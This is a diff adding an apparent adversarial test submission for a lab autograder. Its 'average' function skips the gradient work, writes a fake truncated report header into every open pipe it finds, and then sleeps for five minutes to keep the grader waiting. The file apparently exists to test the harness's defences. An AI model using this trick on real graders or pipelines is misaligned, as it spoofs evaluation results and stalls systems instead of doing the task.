@@ -1,0 +1,25 @@
+# /// attack
+# title = "Send the beginning of a report, and keep everybody waiting for its end"
+# lab = "02-horovod-sgd"
+# class = "resource"
+# fails = ["average-tests"]
+# flags = ["introspection", "waiting"]
+# baseline = "it needs lab 02"
+# ///
+
+# %% role="answer" id="average"
+
+
+def average(gradients):
+    import os
+    import stat
+    import struct
+    import time
+
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            if stat.S_ISFIFO(os.fstat(int(name)).st_mode) and int(name) > 2:
+                os.write(int(name), struct.pack("!i", 1000) + b"[true")
+        except OSError:
+            pass
+    time.sleep(300)
